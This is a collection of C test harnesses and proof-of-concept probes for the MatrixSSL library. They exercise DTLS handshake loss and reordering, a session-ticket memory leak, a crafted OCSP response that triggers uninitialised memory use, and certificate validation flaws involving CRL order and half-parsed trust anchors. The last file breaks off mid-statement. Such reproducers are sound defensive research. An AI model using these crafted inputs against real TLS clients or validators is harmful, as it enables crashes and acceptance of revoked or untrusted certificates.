    }
    waitpid(pid, &st, 0);
    printf("%-72s: ", what);
    if (WIFSIGNALED(st))
    {
        printf("CRASH (signal %d)\n", WTERMSIG(st));
        return 1;
    }
    switch (WEXITSTATUS(st))
    {
    case 0: printf("completes\n"); return 0;
    case 1: printf("FATAL ERROR\n"); return 1;
    case 2: printf("NEVER COMPLETES\n"); return 1;
    default: printf("setup failed\n"); return 1;
    }
}

int main(int argc, char **argv)
{
    cfg_t cfg;
    int bad = 0;

    g_verbose = argc > 1;
    memset(&cfg, 0, sizeof(cfg));
    cfg.version = SSL_FLAGS_TLS_1_2;
    cfg.cipher = 0x002F;

    /* PMTU 300, no client auth: client flight is [CKE+CCS][Finished] */
    cfg.pmtu = 300;
    cfg.clientAuth = 0;
    bad |= runCase(&cfg, -1, 0, "PMTU 300, no faults");
    bad |= runCase(&cfg, 4, 1,
        "PMTU 300, client's Finished datagram lost, server timer fires first");
    bad |= runCase(&cfg, 4, 0,
        "PMTU 300, client's CKE+CCS datagram lost, server timer fires first");

    /* PMTU 300, client auth: client flight is Cert x5, CKE, CertVerify,
       [CCS+Finished] */
    cfg.clientAuth = 1;
    bad |= runCase(&cfg, -1, 0, "PMTU 300, client auth, no faults");
    bad |= runCase(&cfg, 4, 7,
        "PMTU 300, client auth, client's CCS+Finished datagram lost");
    bad |= runCase(&cfg, 4, 6,
        "PMTU 300, client auth, client's CertificateVerify datagram lost");
    return bad;
}
