/*
 * probe_nst.c - side observation probe (UNMODIFIED code).
 *
 * DTLS + RFC 5077 session tickets: the server's last flight is
 * NewSessionTicket, ChangeCipherSpec, Finished.  If that flight is lost the
 * client retransmits its own flight and the server must retransmit the same
 * flight.  Does the handshake still complete?  (No: writeNewSessionTicket
 * moves sid->sessionTicketState to USING_TICKET, so the rebuilt flight has
 * no NewSessionTicket, while the cached Finished covers it.)
 *
 * Second part: a fault free handshake that resumes with the ticket.
 */
#include "dtlsnet.h"

static int dropTurn = -1;
static int g_resume = 0;

static int schedDropFlight(int turn, int fromServer, int idx, int n,
    const dgram_t *d)
{
    (void) idx; (void) n; (void) d; (void) fromServer;
    if (turn == dropTurn)
    {
        return ACT_DROP;
    }
    return ACT_DELIVER;
}

static int one(const cfg_t *cfg, const char *what, sched_t sched)
{
    peer_t c, s;
    int rc;

    if (!g_resume)
    {
        forgetSession();
    }
    if (newPair(cfg, &c, &s) < 0)
    {
        return -9;
    }
    rc = runHandshake(&c, &s, sched, 40);
    printf("%-58s : %s\n", what,
        rc == 0 ? "completes" : rc == -1 ? "FATAL ERROR" : "NEVER COMPLETES");
    delPair(&c, &s);
    return rc;
}

int main(int argc, char **argv)
{
    cfg_t cfg;
    int bad = 0;

    g_verbose = argc > 1;
    memset(&cfg, 0, sizeof(cfg));
    cfg.version = SSL_FLAGS_TLS_1_2;
    cfg.pmtu = 1400;
    cfg.tickets = 1;
    cfg.cipher = 0x002F;    /* RSA key transport: keeps the RSA-signed
                               ServerKeyExchange resend defect (probe_loss)
                               out of this probe */
    if (netOpen(&cfg) < 0)
    {
        return 2;
    }

    /* Flights (turn numbers): 0 CH, 1 HVR, 2 CH+cookie, 3 SH..SHD,
       4 CKE CCS FIN, 5 [NST] CCS FIN */
    dropTurn = -1;
    one(&cfg, "tickets, no loss", schedDropFlight);
    dropTurn = 5;
    if (one(&cfg, "tickets, server's NST/CCS/Finished flight lost once",
            schedDropFlight) != 0)
    {
        bad = 1;
    }
    dropTurn = 3;
    one(&cfg, "tickets, server's ServerHello flight lost once",
        schedDropFlight);
    dropTurn = 4;
    one(&cfg, "tickets, client's CKE/CCS/Finished flight lost once",
        schedDropFlight);
    /* resumption with the ticket obtained by a complete handshake */
    dropTurn = -1;
    one(&cfg, "tickets, no loss (full, to obtain a ticket)", schedDropFlight);
    g_resume = 1;
    if (one(&cfg, "tickets, no loss, RESUMED with the ticket", schedDropFlight) != 0)
    {
        bad |= 2;
    }
    matrixSslClose();
    return bad;
}
