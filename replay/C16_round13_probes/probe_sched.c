/*
 * probe_sched.c - side observation probe (UNMODIFIED code).
 *
 * Bounded-exhaustive single-fault schedules for a fragmented DTLS handshake:
 * for every flight (lock-step turn) t and every datagram k of that flight,
 *   drop k once | deliver k twice | deliver k after the rest of the flight |
 *   deliver the whole flight in reverse order
 * and report every schedule for which the handshake does not complete.
 *
 * usage: probe_sched [-v] ver pmtu clientAuth cipher [mode turn k]
 */
#include "dtlsnet.h"

enum { M_NONE, M_DROP, M_DUP, M_LATE, M_REV, M_DUPLATE, M_NMODES };
static const char *mname[] = { "none", "drop", "dup", "late", "reverse",
                               "dup-late" };
static int g_mode, g_turn, g_k;
static int g_counts[64];

static int sched(int turn, int fromServer, int idx, int n, const dgram_t *d)
{
    (void) fromServer; (void) d;
    if (turn < 64 && g_counts[turn] < n)
    {
        g_counts[turn] = n;
    }
    if (turn != g_turn)
    {
        return ACT_DELIVER;
    }
    switch (g_mode)
    {
    case M_DROP: return idx == g_k ? ACT_DROP : ACT_DELIVER;
    case M_DUP: return idx == g_k ? ACT_DUP : ACT_DELIVER;
    case M_LATE: return idx == g_k ? ACT_LAST : ACT_DELIVER;
    case M_DUPLATE: return idx == g_k ? (ACT_DUP | ACT_LAST) : ACT_DELIVER;
    default: return ACT_DELIVER;
    }
}

/* reverse needs its own driver step: use ACT_LAST for all but emulate by
   delivering in reverse.  Implemented by a custom loop below. */
static int runReverse(peer_t *c, peer_t *s, int revTurn, int maxTurns)
{
    dgram_t dg[MAXDG];
    int turn, n, i;
    peer_t *from, *to;

    for (turn = 0; turn < maxTurns; turn++)
    {
        from = (turn & 1) ? s : c;
        to = (turn & 1) ? c : s;
        if (from == s && s->nRecv == 0)
        {
            continue;
        }
        if (g_verbose)
        {
            printf(" turn %d (%s sends)\n", turn, from->name);
        }
        n = peerCollect(from, dg, MAXDG);
        if (from->fatal)
        {
            dgFree(dg, n);
            return -1;
        }
        if (turn == revTurn)
        {
            for (i = n - 1; i >= 0; i--)
            {
                peerDeliver(to, &dg[i]);
            }
        }
        else
        {
            for (i = 0; i < n; i++)
            {
                peerDeliver(to, &dg[i]);
            }
        }
        dgFree(dg, n);
        if (to->fatal || from->fatal)
        {
            return -1;
        }
        if (c->hsDone && s->hsDone)
        {
            return 0;
        }
    }
    return -2;
}

static int one(const cfg_t *cfg)
{
    peer_t c, s;
    int rc;

    forgetSession();
    if (newPair(cfg, &c, &s) < 0)
    {
        return -9;
    }
    if (g_mode == M_REV)
    {
        rc = runReverse(&c, &s, g_turn, 60);
    }
    else
    {
        rc = runHandshake(&c, &s, sched, 60);
    }
    delPair(&c, &s);
    return rc;
}

int main(int argc, char **argv)
{
    cfg_t cfg;
    int a = 1, rc, bad = 0, total = 0, t, k, m;
    int counts[64];

    if (argc > 1 && strcmp(argv[1], "-v") == 0)
    {
        g_verbose = 1;
        a++;
    }
    if (argc - a < 4)
    {
        printf("usage: %s [-v] ver pmtu clientAuth cipher [mode turn k]\n",
            argv[0]);
        return 2;
    }
    memset(&cfg, 0, sizeof(cfg));
    cfg.version = atoi(argv[a]) == 10 ? SSL_FLAGS_TLS_1_1 : SSL_FLAGS_TLS_1_2;
    cfg.pmtu = atoi(argv[a + 1]);
    cfg.clientAuth = atoi(argv[a + 2]);
    cfg.cipher = (psCipher16_t) strtol(argv[a + 3], NULL, 16);
    if (netOpen(&cfg) < 0)
    {
        return 2;
    }
    if (argc - a >= 7)
    {
        g_mode = atoi(argv[a + 4]);
        g_turn = atoi(argv[a + 5]);
        g_k = atoi(argv[a + 6]);
        rc = one(&cfg);
        printf("%s turn %d k %d: rc %d\n", mname[g_mode], g_turn, g_k, rc);
        return rc != 0;
    }

    /* fault free run: learn the flight sizes */
    g_mode = M_NONE; g_turn = -1;
    rc = one(&cfg);
    printf("fault free: %s\n", rc == 0 ? "completes" : "FAILS");
    if (rc != 0)
    {
        return 1;
    }
    memcpy(counts, g_counts, sizeof(counts));
    for (t = 0; t < 8; t++)
    {
        for (m = M_DROP; m < M_NMODES; m++)
        {
            for (k = 0; k < counts[t]; k++)
            {
                if (m == M_REV && k > 0)
                {
                    break;
                }
                if ((m == M_REV || m == M_LATE || m == M_DUPLATE) &&
                    counts[t] < 2)
                {
                    break;
                }
                g_mode = m; g_turn = t; g_k = k;
                rc = one(&cfg);
                total++;
                if (rc != 0)
                {
                    bad++;
                    printf("  turn %d (%d datagrams) %-8s k=%d : %s\n", t,
                        counts[t], mname[m], k,
                        rc == -1 ? "FATAL" : "NEVER COMPLETES");
                }
            }
        }
    }
    printf("%d schedules, %d do not complete\n", total, bad);
    return bad != 0;
}
