/*
 * dtlsnet.h - tiny in-memory datagram "network" between a MatrixSSL DTLS
 * client and server, used by demo.c and the side probes.
 *
 * Every datagram a peer emits is captured whole (one matrixDtlsGetOutdata
 * result == one datagram).  The scenario code decides what happens to it:
 * deliver, drop, duplicate, hold back and deliver later.  Nothing is ever
 * forged or modified.
 */
#ifndef DTLSNET_H
#define DTLSNET_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "matrixssl/matrixsslApi.h"

#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

#define MAXDG   256
#define MAXAPP  64

typedef struct
{
    unsigned char *b;
    int len;
} dgram_t;

typedef struct
{
    const char *name;
    ssl_t *ssl;
    int hsDone;                 /* MATRIXSSL_HANDSHAKE_COMPLETE or app data seen */
    int fatal;                  /* library returned an error / fatal alert */
    int nApp;                   /* application records delivered to "app" */
    char app[MAXAPP][64];       /* their payloads */
    int nRecv;                  /* datagrams handed to this peer so far */
} peer_t;

static int g_verbose = 0;

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert;
    return alert;   /* accept only what the library validated */
}

static void dgFree(dgram_t *d, int n)
{
    int i;
    for (i = 0; i < n; i++)
    {
        free(d[i].b);
        d[i].b = NULL;
        d[i].len = 0;
    }
}

static dgram_t dgDup(const dgram_t *d)
{
    dgram_t r;
    r.len = d->len;
    r.b = malloc(d->len);
    memcpy(r.b, d->b, d->len);
    return r;
}

/* Collect everything the peer wants to send right now as datagrams.
   Call with timeout=1 to model a retransmission timer expiry (the flight is
   rebuilt by the library when its out buffer is empty). */
static int peerCollect(peer_t *p, dgram_t *out, int max)
{
    int n = 0;
    int32 len;
    unsigned char *buf;

    while (n < max)
    {
        len = matrixDtlsGetOutdata(p->ssl, &buf);
        if (len < 0)
        {
            if (g_verbose)
            {
                printf("  [%s] matrixDtlsGetOutdata -> %d\n", p->name, len);
            }
            p->fatal = 1;
            break;
        }
        if (len == 0)
        {
            break;
        }
        out[n].b = malloc(len);
        memcpy(out[n].b, buf, len);
        out[n].len = len;
        n++;
        if (matrixDtlsSentData(p->ssl, len) == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            p->hsDone = 1;
        }
    }
    if (g_verbose)
    {
        int i;
        printf("  [%s] emits %d datagram(s):", p->name, n);
        for (i = 0; i < n; i++)
        {
            printf(" %d", out[i].len);
        }
        printf("\n");
    }
    return n;
}

/* Hand one datagram to a peer.  Returns the last library return code. */
static int32 peerDeliver(peer_t *p, const dgram_t *d)
{
    unsigned char *buf;
    int32 len, rc;
    unsigned char *pt;
    uint32 ptLen;

    if (p->fatal)
    {
        return PS_FAILURE;
    }
    p->nRecv++;
    len = matrixSslGetReadbuf(p->ssl, &buf);
    if (len < d->len)
    {
        printf("  [%s] read buffer too small (%d < %d)\n", p->name, len, d->len);
        p->fatal = 1;
        return PS_FAILURE;
    }
    memcpy(buf, d->b, d->len);
    rc = matrixSslReceivedData(p->ssl, d->len, &pt, &ptLen);
    for (;; )
    {
        if (g_verbose)
        {
            printf("  [%s] <- %d bytes: rc %d\n", p->name, d->len, rc);
        }
        if (rc < 0)
        {
            p->fatal = 1;
            return rc;
        }
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            p->hsDone = 1;
            return rc;
        }
        if (rc == MATRIXSSL_APP_DATA)
        {
            p->hsDone = 1;
            if (p->nApp < MAXAPP)
            {
                uint32 l = ptLen < 63 ? ptLen : 63;
                memcpy(p->app[p->nApp], pt, l);
                p->app[p->nApp][l] = 0;
                p->nApp++;
            }
            rc = matrixSslProcessedData(p->ssl, &pt, &ptLen);
            if (rc == 0)
            {
                return MATRIXSSL_APP_DATA;
            }
            continue;
        }
        if (rc == MATRIXSSL_RECEIVED_ALERT)
        {
            if (ptLen == 2 && pt[0] == SSL_ALERT_LEVEL_FATAL)
            {
                if (g_verbose)
                {
                    printf("  [%s] fatal alert %d received\n", p->name, pt[1]);
                }
                p->fatal = 1;
                return PS_FAILURE;
            }
            rc = matrixSslProcessedData(p->ssl, &pt, &ptLen);
            if (rc == 0)
            {
                return MATRIXSSL_RECEIVED_ALERT;
            }
            continue;
        }
        /* REQUEST_SEND / REQUEST_RECV / SUCCESS */
        return rc;
    }
}

/* Queue one application record on a peer and return its datagram(s) */
static int __attribute__((unused)) peerSendApp(peer_t *p, const char *msg, dgram_t *out, int max)
{
    int32 rc;

    rc = matrixSslEncodeToOutdata(p->ssl, (unsigned char *) msg,
        (uint32) strlen(msg));
    if (rc < 0)
    {
        printf("  [%s] matrixSslEncodeToOutdata -> %d\n", p->name, rc);
        p->fatal = 1;
        return 0;
    }
    return peerCollect(p, out, max);
}

static int __attribute__((unused)) countApp(const peer_t *p, const char *msg)
{
    int i, n = 0;
    for (i = 0; i < p->nApp; i++)
    {
        if (strcmp(p->app[i], msg) == 0)
        {
            n++;
        }
    }
    return n;
}

/* ------------------------------------------------------------------ */
typedef struct
{
    int32 version;      /* SSL_FLAGS_TLS_1_2 or SSL_FLAGS_TLS_1_1 (DTLS 1.0) */
    int clientAuth;
    int tickets;
    int pmtu;
    psCipher16_t cipher;
} cfg_t;

static sslKeys_t *g_skeys, *g_ckeys;
static sslSessionId_t *g_sid;

static int netOpen(const cfg_t *cfg)
{
    static const unsigned char tname[16] = "seed13-c16-tkt";
    static const unsigned char tsym[32] = { 1, 2, 3, 4, 5, 6, 7, 8, 9 };
    static const unsigned char thash[32] = { 9, 8, 7, 6, 5, 4, 3, 2, 1 };

    if (matrixSslOpen() < 0)
    {
        return -1;
    }
    matrixDtlsSetPmtu(cfg->pmtu);
    if (matrixSslNewKeys(&g_skeys, NULL) < 0 ||
        matrixSslNewKeys(&g_ckeys, NULL) < 0)
    {
        return -1;
    }
    if (matrixSslLoadRsaKeysMem(g_skeys, RSA2048, RSA2048_SIZE,
            RSA2048KEY, RSA2048KEY_SIZE,
            cfg->clientAuth ? RSA2048CA : NULL,
            cfg->clientAuth ? RSA2048CA_SIZE : 0) < 0)
    {
        printf("server key load failed\n");
        return -1;
    }
    if (matrixSslLoadRsaKeysMem(g_ckeys,
            cfg->clientAuth ? RSA2048 : NULL,
            cfg->clientAuth ? RSA2048_SIZE : 0,
            cfg->clientAuth ? RSA2048KEY : NULL,
            cfg->clientAuth ? RSA2048KEY_SIZE : 0,
            RSA2048CA, RSA2048CA_SIZE) < 0)
    {
        printf("client key load failed\n");
        return -1;
    }
    if (cfg->tickets)
    {
        if (matrixSslLoadSessionTicketKeys(g_skeys, tname, tsym, 32,
                thash, 32) < 0)
        {
            printf("ticket key load failed\n");
            return -1;
        }
    }
    return 0;
}

static int newPair(const cfg_t *cfg, peer_t *c, peer_t *s)
{
    sslSessOpts_t o;
    psCipher16_t cs[1];
    int32 rc;

    memset(c, 0, sizeof(*c));
    memset(s, 0, sizeof(*s));
    c->name = "client";
    s->name = "server";

    memset(&o, 0, sizeof(o));
    o.versionFlag = cfg->version | SSL_FLAGS_DTLS;
    /* A certificate callback on a server session requests client auth */
    rc = matrixSslNewServerSession(&s->ssl, g_skeys,
        cfg->clientAuth ? certCb : NULL, &o);
    if (rc < 0)
    {
        printf("NewServerSession %d\n", rc);
        return -1;
    }
    memset(&o, 0, sizeof(o));
    o.versionFlag = cfg->version | SSL_FLAGS_DTLS;
    o.ticketResumption = cfg->tickets ? 1 : 0;
    if (g_sid == NULL)
    {
        matrixSslNewSessionId(&g_sid, NULL);
    }
    cs[0] = cfg->cipher;
    rc = matrixSslNewClientSession(&c->ssl, g_ckeys, g_sid, cs,
        cfg->cipher ? 1 : 0, certCb, NULL, NULL, NULL, &o);
    if (rc != MATRIXSSL_REQUEST_SEND)
    {
        printf("NewClientSession %d\n", rc);
        return -1;
    }
    return 0;
}

/* Forget the client's cached session: the next handshake is a full one */
static void __attribute__((unused)) forgetSession(void)
{
    if (g_sid)
    {
        matrixSslDeleteSessionId(g_sid);
        g_sid = NULL;
    }
}

static void delPair(peer_t *c, peer_t *s)
{
    matrixSslDeleteSession(c->ssl);
    matrixSslDeleteSession(s->ssl);
    c->ssl = s->ssl = NULL;
}

/* Lock-step handshake driver.  Each turn the sender emits whatever it has;
   when it has nothing new (its previous flight went nowhere) the call to
   matrixDtlsGetOutdata with an empty buffer is the retransmission timer.
   The schedule callback decides per datagram.  Returns 0 when both sides
   report the handshake complete, -1 on a fatal error, -2 if 'maxTurns' pass
   without completion. */
#define ACT_DELIVER 0
#define ACT_DROP    1
#define ACT_DUP     2   /* deliver twice, back to back */
#define ACT_LAST    4   /* deliver after all other datagrams of this flight */

typedef int (*sched_t)(int turn, int fromServer, int idx, int n,
        const dgram_t *d);

static int runHandshake(peer_t *c, peer_t *s, sched_t sched, int maxTurns)
{
    dgram_t dg[MAXDG], late[MAXDG];
    int turn, n, i, nl, act;
    peer_t *from, *to;

    for (turn = 0; turn < maxTurns; turn++)
    {
        from = (turn & 1) ? s : c;
        to = (turn & 1) ? c : s;
        if (g_verbose)
        {
            printf(" turn %d (%s sends)\n", turn, from->name);
        }
        if (from == s && s->nRecv == 0)
        {
            /* A server that has not heard from the client has no timer */
            continue;
        }
        n = peerCollect(from, dg, MAXDG);
        if (from->fatal)
        {
            dgFree(dg, n);
            return -1;
        }
        nl = 0;
        for (i = 0; i < n; i++)
        {
            act = sched ? sched(turn, turn & 1, i, n, &dg[i]) : ACT_DELIVER;
            if (act & ACT_DROP)
            {
                if (g_verbose)
                {
                    printf("  (net) drop datagram %d/%d\n", i + 1, n);
                }
                continue;
            }
            if (act & ACT_LAST)
            {
                late[nl++] = dgDup(&dg[i]);
                continue;
            }
            peerDeliver(to, &dg[i]);
            if (act & ACT_DUP)
            {
                peerDeliver(to, &dg[i]);
            }
        }
        for (i = 0; i < nl; i++)
        {
            peerDeliver(to, &late[i]);
        }
        dgFree(late, nl);
        dgFree(dg, n);
        if (to->fatal || from->fatal)
        {
            return -1;
        }
        if (c->hsDone && s->hsDone)
        {
            return 0;
        }
    }
    return -2;
}

#endif /* DTLSNET_H */
