/* C08 "leaks memory once the session is deleted" (no fault involved): a TLS 1.3 client created WITHOUT a session id object
   receives a NewSessionTicket: tls13ParseNewSessionTicket allocates ssl->sid (+ ticket + PSK copy) itself, and
   matrixSslDeleteSession frees ssl->sid only for servers.
   build: -Wl,--wrap=malloc,--wrap=calloc,--wrap=realloc,--wrap=free */
#include "harness.h"
extern void *__real_malloc(size_t); extern void *__real_calloc(size_t, size_t); extern void *__real_realloc(void *, size_t); extern void __real_free(void *);
#define MAXB 400000
static void *g_live[MAXB]; static size_t g_sz[MAXB]; static int g_n, g_on;
static void add(void *p, size_t s) { if (p && g_on && g_n < MAXB) { g_live[g_n] = p; g_sz[g_n++] = s; } }
static void del(void *p) { int i; for (i = g_n - 1; i >= 0; i--) if (g_live[i] == p) { g_live[i] = g_live[--g_n]; g_sz[i] = g_sz[g_n]; return; } }
void *__wrap_malloc(size_t s) { void *p = __real_malloc(s); add(p, s); return p; }
void *__wrap_calloc(size_t a, size_t b) { void *p = __real_calloc(a, b); add(p, a * b); return p; }
void *__wrap_realloc(void *q, size_t s) { void *p = __real_realloc(q, s); if (p) { del(q); add(p, s); } return p; }
void __wrap_free(void *p) { if (p) del(p); __real_free(p); }
static size_t one(int withSid)
{
    hPeer c = {0}, s = {0}; sslSessOpts_t o; size_t bytes = 0; int i; static unsigned char w[1 << 16]; int n;
    unsigned char name[16] = "ticketkeyname001", sym[32] = {1,2,3}, mac[32] = {4,5,6};
    h_server_keys(&s); h_client_keys(&c);
    matrixSslLoadSessionTicketKeys(s.keys, name, sym, 32, mac, 32);
    g_n = 0; g_on = 1;
    h_new_server(&s, SSL_FLAGS_TLS_1_3);
    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_3;
    if (withSid) matrixSslNewSessionId(&c.sid, NULL);
    matrixSslNewClientSession(&c.ssl, c.keys, c.sid, NULL, 0, h_certCbAllowAll, NULL, NULL, NULL, &o);
    h_handshake(&c, &s);
    n = h_drain(&s, w, sizeof(w)); if (n > 0) h_feed(&c, w, n);          /* NewSessionTicket */
    matrixSslDeleteSession(c.ssl); matrixSslDeleteSession(s.ssl);
    if (c.sid) matrixSslDeleteSessionId(c.sid);
    g_on = 0;
    for (i = 0; i < g_n; i++) bytes += g_sz[i];
    printf("client %s session id object: handshake done=%d/%d, %d block(s), %zu bytes still allocated after the sessions were deleted\n",
        withSid ? "with a" : "WITHOUT a", c.hsDone, s.hsDone, g_n, bytes);
    matrixSslDeleteKeys(c.keys); matrixSslDeleteKeys(s.keys);
    return bytes;
}
int main(void)
{
    size_t a, b;
    h_open();
    one(1);                 /* warm-up: one-time allocations of the library */
    a = one(1); b = one(0);
    printf("RESULT %s\n", b > a ? "VIOLATED (memory of the client session is leaked when no session id object was supplied)" : "ok");
    return b > a;
}
