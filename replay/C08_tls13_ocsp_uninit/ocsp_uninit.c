#include "harness.h"
#include "matrixssl/matrixssllib.h"
#include <signal.h>
#include <setjmp.h>
/* C08 (uses uninitialised memory): TLS 1.3 client that asked for OCSP stapling; the server staples the 5-byte OCSPResponse
   30 03 0a 01 00 (responseStatus successful, no responseBytes).  psOcspParseResponse returns success without touching the
   output structure; tls13ParseStatusRequest does not clear its local psOcspResponse_t first (the TLS 1.2 parser does), so the
   validation and psX509FreeCert(ocspResp.OCSPResponseCert) run on stack garbage. */
static sigjmp_buf jb; static void on_sig(int s) { (void) s; siglongjmp(jb, 1); }
static void dirty_stack(void) { volatile unsigned char junk[16384]; memset((void *) junk, 0x41, sizeof(junk)); }
int main(void)
{
    static const unsigned char resp[5] = { 0x30, 0x03, 0x0a, 0x01, 0x00 };
    hPeer c = {0}, s = {0}; sslSessOpts_t o; int rc, crashed = 0;
    h_server_keys(&s); h_client_keys(&c);
    if (matrixSslLoadOCSPResponse(s.keys, resp, sizeof(resp)) < 0) { printf("server refused to load the response\n"); return 2; }
    if (h_new_server(&s, SSL_FLAGS_TLS_1_3) < 0) return 2;
    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_3; o.OCSPstapling = 1;
    matrixSslNewSessionId(&c.sid, NULL);
    if (matrixSslNewClientSession(&c.ssl, c.keys, c.sid, NULL, 0, h_certCbAllowAll, NULL, NULL, NULL, &o) < 0) return 2;
    signal(SIGSEGV, on_sig); signal(SIGBUS, on_sig); signal(SIGABRT, on_sig);
    if (sigsetjmp(jb, 1)) crashed = 1;
    else { dirty_stack(); rc = h_handshake(&c, &s); printf("handshake rc=%d client err=%d closed=%d\n", rc, c.ssl->err, c.closed); }
    printf("RESULT %s\n", crashed ? "VIOLATED (signal in the client while it handled the stapled response: uninitialised structure used and freed)" : "ok (no fault observed natively; run under valgrind / ASan)");
    return crashed;
}
