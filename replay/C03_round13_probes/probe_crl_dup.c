/*
 * Side probe (UNMODIFIED code): the CRL cache is searched by issuer DN and
 * only the FIRST matching CRL is consulted (internalGetCrlForCert).  When the
 * application loaded two CRLs of the same issuer with psCRL_Insert (the
 * documented "blind append"), a revocation listed only in the second one is
 * never seen.
 *
 *   cache = [crl_empty (authenticated), crl_rev (authenticated, lists 0x1001)]
 *   matrixValidateCerts([leaf 0x1001], ca)  -> expected: revoked
 *
 * exit 1 when the revoked leaf validates, 0 when it is refused.
 */
#include "matrixssl/matrixsslImpl.h"
#include <stdio.h>
#include <stdlib.h>
#include "certs.h"

static psX509Crl_t *load(const unsigned char *der, unsigned int len,
    psX509Cert_t *ca)
{
    psX509Crl_t *crl = NULL;

    if (psX509ParseCRL(NULL, &crl, (unsigned char *) der, len) < 0 ||
        psX509AuthenticateCRL(ca, crl, NULL) < 0 || crl->authenticated != 1)
    {
        printf("setup: CRL does not parse/authenticate\n");
        exit(2);
    }
    return crl;
}

static int run(psX509Cert_t *ca, int revokingFirst)
{
    psX509Cert_t *leaf = NULL, *found = NULL;
    psX509Crl_t *a, *b;
    int32 rc, st;

    psCRL_DeleteAll();
    a = load(crl_empty_der, crl_empty_der_len, ca);
    b = load(crl_rev_der, crl_rev_der_len, ca);
    if (revokingFirst)
    {
        psCRL_Insert(b); psCRL_Insert(a);
    }
    else
    {
        psCRL_Insert(a); psCRL_Insert(b);
    }
    if (psX509ParseCert(NULL, leaf_der, leaf_der_len, &leaf, 0) < 0)
    {
        printf("setup: leaf\n");
        exit(2);
    }
    rc = matrixValidateCerts(NULL, leaf, ca, NULL, &found, NULL, NULL);
    st = leaf->authStatus;
    printf("  cache order %-28s : rc=%d authStatus=%d revokedStatus=%d -> %s\n",
        revokingFirst ? "[revoking CRL, empty CRL]" : "[empty CRL, revoking CRL]",
        (int) rc, (int) st, (int) leaf->revokedStatus,
        (rc >= 0 && st == PS_CERT_AUTH_PASS) ? "ACCEPTED" : "rejected");
    psX509FreeCert(leaf);
    psCRL_DeleteAll();
    return rc >= 0 && st == PS_CERT_AUTH_PASS;
}

int main(void)
{
    psX509Cert_t *ca = NULL;
    int bad = 0;

    if (matrixSslOpen() < 0 ||
        psX509ParseCert(NULL, ca_der, ca_der_len, &ca, 0) < 0)
    {
        printf("setup failed\n");
        return 2;
    }
    printf("two authenticated CRLs of the same issuer in the cache, leaf "
        "0x1001 revoked by one of them\n");
    bad += run(ca, 1);
    bad += run(ca, 0);
    psX509FreeCert(ca);
    matrixSslClose();
    if (bad)
    {
        printf("CONFIRMED: a certificate revoked by an authenticated, loaded "
            "CRL validates when another CRL of the same issuer precedes it "
            "in the cache\n");
        return 1;
    }
    printf("not reproduced\n");
    return 0;
}
