/*
 * Side probe (UNMODIFIED code): converse clause of C03.  matrixValidateCertsExt
 * stops at the first trust anchor for which psX509AuthenticateCert returns
 * PS_SUCCESS - which it also does when it only *marked* the subject
 * (authStatus = PS_CERT_AUTH_FAIL_EXTENSION because the anchor lacks
 * keyCertSign, or PS_CERT_AUTH_FAIL_AUTHKEY).  A second anchor with the same
 * name and key that satisfies every rule is never tried.
 *
 *   ca_nosign : same DN and key as ca, keyUsage = cRLSign,digitalSignature
 *   ca        : keyUsage = keyCertSign,cRLSign
 *   leaf      : issued by that key
 *
 *   anchors [ca, ca_nosign]  -> accepted
 *   anchors [ca_nosign, ca]  -> refused although leaf -> ca is a valid path
 *
 * exit 1 when the outcome depends on the order of the trust anchors.
 */
#include "matrixssl/matrixsslImpl.h"
#include <stdio.h>
#include <stdlib.h>
#include "certs.h"

static int run(int goodFirst)
{
    psX509Cert_t *a = NULL, *b = NULL, *leaf = NULL, *found = NULL;
    int32 rc, st;
    uint32 ff;

    if (psX509ParseCert(NULL, ca_der, ca_der_len, &a, 0) < 0 ||
        psX509ParseCert(NULL, ca_nosign_der, ca_nosign_der_len, &b, 0) < 0 ||
        psX509ParseCert(NULL, leaf_der, leaf_der_len, &leaf, 0) < 0)
    {
        printf("setup: parse\n");
        exit(2);
    }
    if (goodFirst)
    {
        a->next = b;
    }
    else
    {
        b->next = a;
    }
    rc = matrixValidateCerts(NULL, leaf, goodFirst ? a : b, NULL, &found,
        NULL, NULL);
    st = leaf->authStatus;
    ff = leaf->authFailFlags;
    printf("  anchors %-16s : rc=%d leaf authStatus=%d authFailFlags=0x%x -> %s\n",
        goodFirst ? "[ca, ca_nosign]" : "[ca_nosign, ca]", (int) rc, (int) st,
        (unsigned) ff,
        (rc >= 0 && st == PS_CERT_AUTH_PASS) ? "ACCEPTED" : "rejected");
    psX509FreeCert(leaf);
    psX509FreeCert(goodFirst ? a : b);
    return rc >= 0 && st == PS_CERT_AUTH_PASS;
}

int main(void)
{
    int first, second;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    printf("two trust anchors with the same DN and key; only 'ca' may sign "
        "certificates\n");
    first = run(1);
    second = run(0);
    matrixSslClose();
    if (first != second)
    {
        printf("CONFIRMED: a chain with a genuine path to a trust anchor is "
            "refused when an anchor of the same name/key without keyCertSign "
            "precedes it\n");
        return 1;
    }
    printf("not reproduced (same outcome for both orders)\n");
    return 0;
}
