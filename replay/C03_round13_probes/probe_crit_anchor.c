/*
 * Side probe (UNMODIFIED code): matrixSslLoadKeysMem loads CA material with
 * CERT_ALLOW_BUNDLE_PARTIAL_PARSE.  A PEM CA certificate whose parse FAILS
 * (here: an unrecognised critical extension, PS_X509_UNSUPPORTED_EXT) is still
 * appended to keys->CAcerts and counted as loaded, and psX509AuthenticateCert
 * never looks at parseStatus: the half-parsed certificate (name, key,
 * basicConstraints and keyUsage were read before the failing extension) works
 * as a trust anchor.
 *
 * exit 1 when a leaf validates against such an anchor.
 */
#include "matrixssl/matrixsslImpl.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "certs.h"
#include "certs_pem.h"

int main(void)
{
    sslKeys_t *keys = NULL;
    psX509Cert_t *leaf = NULL, *found = NULL, *c, *direct = NULL;
    int32 rc, st, n = 0;

    if (matrixSslOpen() < 0 || matrixSslNewKeys(&keys, NULL) < 0)
    {
        return 2;
    }
    rc = psX509ParseCert(NULL, ca_crit_der, ca_crit_der_len, &direct, 0);
    printf("psX509ParseCert(ca_crit) = %d, parseStatus = %d (%s)\n", (int) rc,
